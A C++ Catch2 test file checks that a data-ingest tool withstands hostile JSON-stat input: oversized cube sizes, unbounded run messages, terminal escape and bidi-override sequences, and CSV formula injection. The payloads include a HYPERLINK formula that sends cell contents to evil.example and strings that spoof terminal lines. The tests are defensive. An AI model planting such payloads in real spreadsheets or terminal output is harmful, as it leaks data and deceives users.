// Files that are made to be more than they are: sizes out of proportion, and text that speaks to terminals, logs and
// spreadsheets, through the built program.
#include "tests/support/catch.hpp"
#include "tests/support/installed.hpp"
#include "tests/support/store_engine.hpp"

#include <fmt/format.h>

#include <unistd.h>

using namespace skurd::test;
using Catch::Matchers::Contains;
using skurd::Json;

namespace {

constexpr auto evil = "\x1b]0;PWNED\x07\x1b[31mX\r\nFAKE LINE\u009b\u202e\u200b";

struct Dropped : Installed {
    Dropped()
    {
        write_file(folder / "skurd.toml", own_jobs_only);
        write_file(folder / "schedules/js.toml",
                   "[job]\nconnector = \"drop\"\n[source]\nfiles = \"js*.json\"\ndataset = "
                   "\"js\"\n[layout]\nformat = \"jsonstat\"\n");
    }

    Ended drop(const Json& dataset) const
    {
        write_file(folder / "js.json", dataset.dump());
        return run({"drop", (folder / "js.json").string(), "--job", "js"});
    }
};

Json dimension(const std::vector<std::string>& codes)
{
    return {{"category", {{"index", codes}}}};
}

std::vector<std::string> codes(std::size_t count)
{
    std::vector<std::string> all;
    for (std::size_t i = 0; i < count; ++i)
        all.push_back(fmt::format("c{}", i));
    return all;
}

Json dataset(const std::vector<std::string>& rows, const std::vector<std::string>& columns)
{
    return {{"version", "2.0"},
            {"class", "dataset"},
            {"label", "x"},
            {"id", {"a", "b", "Tid"}},
            {"size", {rows.size(), columns.size(), 1}},
            {"role", {{"time", {"Tid"}}}},
            {"dimension", {{"a", dimension(rows)}, {"b", dimension(columns)}, {"Tid", dimension({"2000"})}}},
            {"value", {{"0", 1}}}};
}

/// Whether a text has anything that a terminal would obey or hide.
bool is_plain(const std::string& text)
{
    for (const auto* piece : {"\x1b", "\x07", "\r", "\u009b", "\u202e", "\u200b", "\nFAKE"})
        if (text.find(piece) != std::string::npos)
            return false;
    return true;
}

} // namespace

TEST_CASE("a file that states more cells than its bytes could is refused, and little is stored of it",
          "[hostile][long]")
{
    const Dropped here;
    auto all_alike = dataset(codes(900), codes(900));
    all_alike["status"] = ":";
    const auto ended = here.drop(all_alike);
    CHECK(ended.exit == 1);
    CHECK_THAT(ended.err, Contains("810000 cells are stated in"));
    if (!on_postgres()) // an empty database is larger
        CHECK(std::filesystem::file_size(here.state / "skurd.db") < (2 << 20));

    CHECK_THAT(here.drop(dataset(codes(2500), codes(2500))).err, Contains("CUBE_SIZE_OVERFLOW"));
    CHECK(here.drop(dataset(codes(900), codes(900))).exit == 0); // what a sparse table does not say costs nothing
}

TEST_CASE("what a file makes a run say is bounded, with the rest counted", "[hostile][long]")
{
    const Dropped here;
    auto odd = dataset(codes(3000), {"y"});
    odd["value"] = codes(3000); // each a symbol that nobody knows, and is noted
    REQUIRE(here.drop(odd).exit == 0);
    const auto message = here.json({"runs"})[0]["message"].get<std::string>();
    CHECK(message.size() <= 4096);
    CHECK_THAT(message, Contains(" more notes"));
}

TEST_CASE("no text of a source speaks to a terminal or makes a line of its own", "[hostile]")
{
    const Dropped here;
    auto spoken = dataset({std::string("1") + evil, "2"}, {"y"});
    spoken["label"] = std::string("L") + evil;
    spoken["note"] = {std::string("N") + evil};
    spoken["dimension"]["a"]["label"] = std::string("R") + evil;
    spoken["dimension"]["a"]["category"]["label"] = {{"2", std::string("two") + evil}};
    spoken["dimension"]["a"]["category"]["unit"] = {{"2", {{"label", std::string("U") + evil}}}};
    spoken["value"] = {1, std::string("S") + evil};
    REQUIRE(here.drop(spoken).exit == 0);
    const std::vector<std::vector<std::string>> commands = {{"get", "drop/js"},
                                                            {"history", "drop/js"},
                                                            {"runs"},
                                                            {"status"},
                                                            {"jobs"},
                                                            {"drift"},
                                                            {"diff", "--from", "2000-01-01"},
                                                            {"quarantine", "list"},
                                                            {"check"}};
    for (const auto& command : commands) {
        const auto ended = here.run(command);
        INFO(command.front() << ":\n" << ended.out << ended.err);
        CHECK(is_plain(ended.out + ended.err));
    }
    const auto rows = here.json({"get", "drop/js"});
    const auto all = rows.dump();
    CHECK_THAT(all, Contains("FAKE LINE"));
    CHECK(rows[0]["codes"]["a"] == std::string("1") + evil); // JSON is exact
    CHECK(is_plain(here.out({"get", "drop/js", "--json"})));
}

TEST_CASE("no cell of CSV is a formula unless it is asked for as it is", "[hostile]")
{
    const Dropped here;
    const std::string formula = R"(=HYPERLINK("http://evil.example/?x="&A1,"Klikk"))";
    auto dangerous = dataset({formula, "-1"}, {"@SUM(A1)"});
    dangerous["value"] = {formula, -2};
    REQUIRE(here.drop(dangerous).exit == 0);
    for (const std::vector<std::string>& command : {std::vector<std::string>{"get", "drop/js", "--format", "csv"},
                                                    {"history", "drop/js", "--format", "csv"},
                                                    {"decode", (here.folder / "js.json").string()}}) {
        const auto safe = here.out(command);
        INFO(safe);
        CHECK_THAT(safe, Contains("'=HYPERLINK"));
        CHECK(safe.find("\"=HYPERLINK") == std::string::npos);
        CHECK(safe.find(",@SUM") == std::string::npos);
        CHECK_THAT(safe, Contains(",-2,"));
        auto raw = command;
        raw.emplace_back("--raw");
        CHECK(here.out(raw).find("'=") == std::string::npos);
    }
    CHECK(here.run({"get", "drop/js", "--format", "csv", "--raw", "--dialect", "excel-nb"}).exit == 2);
}

TEST_CASE("which user claimed a name is recorded beside it", "[hostile]")
{
    const Dropped here;
    REQUIRE(here.drop(dataset({"1"}, {"y"})).exit == 0);
    here.out(
        {"annotate", "drop/js", "--kind", "note", "--period", "2000", "--text", "x", "--by", "Riksrevisor Hansen"});
    const auto annotations = here.json({"annotations"});
    CHECK(annotations[0]["actor"] == "Riksrevisor Hansen");
    CHECK(annotations[0]["uid"] == ::getuid());
}
